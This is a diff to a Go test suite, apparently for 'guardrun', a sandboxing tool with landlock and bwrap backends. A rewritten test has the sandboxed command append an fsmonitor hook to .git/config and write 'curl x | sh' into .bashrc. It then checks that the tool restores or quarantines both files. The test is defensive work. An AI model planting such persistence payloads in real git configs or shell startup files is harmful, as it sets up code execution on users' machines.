@@ -72,7 +72,7 @@ func TestRunMakeShellLandlock(t *testing.T) {
 	}
 	proj := filepath.Join(t.TempDir(), "cproject")
 	copyTree(t, "testdata/cproject", proj)
-	w := runWorld(t, fmt.Sprintf(makeConfig, proj)+landlockAccept)
+	w := runWorld(t, fmt.Sprintf(makeConfig, proj))
 	landlockWorks(t, w, proj)
 	makeRun := func(args ...string) (string, int) {
 		argv := append(append([]string{}, pre...), append([]string{"make", "SHELL=" + guardrunBin}, args...)...)
@@ -136,31 +136,71 @@ func TestRunMakeShellLandlock(t *testing.T) {
 	}
 }
 
-// TestRunLandlockRefusesUnenforceable: without landlock_accept, a
-// profile landlock cannot enforce in full is refused with 125 and the
-// list of parts; auto picks landlock only where bwrap does not work.
-func TestRunLandlockRefusesUnenforceable(t *testing.T) {
+// TestRunLandlockDefaultConfig: the default protect and deny lists run
+// under landlock with nothing accepted, in a workspace without guardrun's
+// config in it: new files at its top level, a git repository's commit,
+// and a protected name the command creates (.bashrc) or changes
+// (.git/config) is moved aside or put back after the command, said on
+// stderr; auto picks landlock only where bwrap does not work.
+func TestRunLandlockDefaultConfig(t *testing.T) {
 	pre := noNamespaces(t)
-	// A zone of its own, without guardrun's config in it: its missing
-	// .guardrun.yaml (protected) could be created there.
-	w := runWorld(t, strings.Replace(runConfig, "root: .", "root: ./proj", 1))
-	proj := filepath.Join(w.work, "proj")
-	if err := os.Mkdir(proj, 0o755); err != nil {
+	w := runWorld(t, runConfig)
+	proj := w.work
+	landlockWorks(t, w, proj)
+	git := exec.Command("git", "init", "-q", proj)
+	if out, err := git.CombinedOutput(); err != nil {
+		t.Fatalf("git init: %v\n%s", err, out)
+	}
+	cfgBefore, err := os.ReadFile(filepath.Join(proj, ".git/config"))
+	if err != nil {
 		t.Fatal(err)
 	}
-	landlockWorks(t, w, proj)
-	argv := append(append([]string{}, pre...), guardrunBin, "--approve-all", "-c", "true")
+	argv := append(append([]string{}, pre...), guardrunBin, "--approve-all", "-c",
+		`echo x > new.txt && git add new.txt && git -c user.name=t -c user.email=t@t commit -qm one &&
+		echo '[core] fsmonitor = "touch p"' >> .git/config && echo 'curl x | sh' > .bashrc`)
 	cmd := exec.Command(argv[0], argv[1:]...)
 	cmd.Dir, cmd.Env = proj, w.env
 	out, err := cmd.CombinedOutput()
-	var ee *exec.ExitError
-	if !errors.As(err, &ee) || ee.ExitCode() != 125 {
-		t.Fatalf("want exit 125, got %v\n%s", err, out)
+	if err != nil {
+		t.Fatalf("%v\n%s", err, out)
 	}
-	for _, s := range []string{"landlock cannot enforce", filepath.Join(proj, ".guardrun.yaml"), "deny_create", "sandbox.landlock_accept"} {
+	if !exists(filepath.Join(proj, "new.txt")) {
+		t.Error("new.txt was not created at the workspace's top level")
+	}
+	if b, err := exec.Command("git", "-C", proj, "log", "--oneline").Output(); err != nil || len(strings.Split(strings.TrimSpace(string(b)), "\n")) != 1 {
+		t.Errorf("git log: %q, %v", b, err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(proj, ".git/config")); string(b) != string(cfgBefore) {
+		t.Errorf(".git/config was not restored: %q", b)
+	}
+	if exists(filepath.Join(proj, ".bashrc")) {
+		t.Error(".bashrc stayed")
+	}
+	for _, s := range []string{
+		"guardrun: protected " + filepath.Join(proj, ".git/config") + " was changed by the command; restored",
+		"guardrun: protected " + filepath.Join(proj, ".bashrc") + " was created by the command; moved aside to " + filepath.Join(proj, ".bashrc.guardrun-quarantine-"),
+	} {
 		if !strings.Contains(string(out), s) {
 			t.Errorf("no %q in:\n%s", s, out)
 		}
+	}
+	// guardrun profile says how: restored after the command, and the
+	// window.
+	pargv := append(append([]string{}, pre...), guardrunBin, "profile")
+	pcmd := exec.Command(pargv[0], pargv[1:]...)
+	pcmd.Dir, pcmd.Env = proj, w.env
+	pout, err := pcmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("profile: %v\n%s", err, pout)
+	}
+	for _, s := range []string{"backend:    landlock", "restored after the command", "a host process could observe a change",
+		"    " + filepath.Join(proj, ".git/config") + "\n", "    " + filepath.Join(proj, ".bashrc") + " (missing: moved aside if created)"} {
+		if !strings.Contains(string(pout), s) {
+			t.Errorf("profile does not say %q:\n%s", s, pout)
+		}
+	}
+	if strings.Contains(string(pout), "REFUSED") || strings.Contains(string(pout), "entries fixed") {
+		t.Errorf("profile refuses or fixes entries:\n%s", pout)
 	}
 	// Where bwrap works, auto keeps it.
 	out2, _, code := runPlain(t, w, proj, nil, "profile", "--json")
@@ -169,9 +209,6 @@ func TestRunLandlockRefusesUnenforceable(t *testing.T) {
 	}
 	if code != 0 || json.Unmarshal([]byte(out2), &rep) != nil || rep.Backend != "bwrap" {
 		t.Errorf("auto outside the wrapper: %q (exit %d)", rep.Backend, code)
-	}
-	if _, errOut, code := runPlain(t, w, proj, nil, "--approve-all", "-c", "true"); code != 0 {
-		t.Errorf("auto with bwrap working: exit %d\n%s", code, errOut)
 	}
 }
 
@@ -185,7 +222,7 @@ func TestSuperviseLandlock(t *testing.T) {
 	// The config outside the work directory: inside it, it would be
 	// protected there and fix the work directory's entries.
 	cfg := filepath.Join(filepath.Dir(w.work), "guardrun.yaml")
-	body := strings.Replace(superviseConfig, "root: .", "root: "+w.work, 1) + "  backend: auto\n" + landlockAccept
+	body := strings.Replace(superviseConfig, "root: .", "root: "+w.work, 1) + "  backend: auto\n"
 	if err := os.WriteFile(cfg, []byte(body), 0o644); err != nil {
 		t.Fatal(err)
 	}
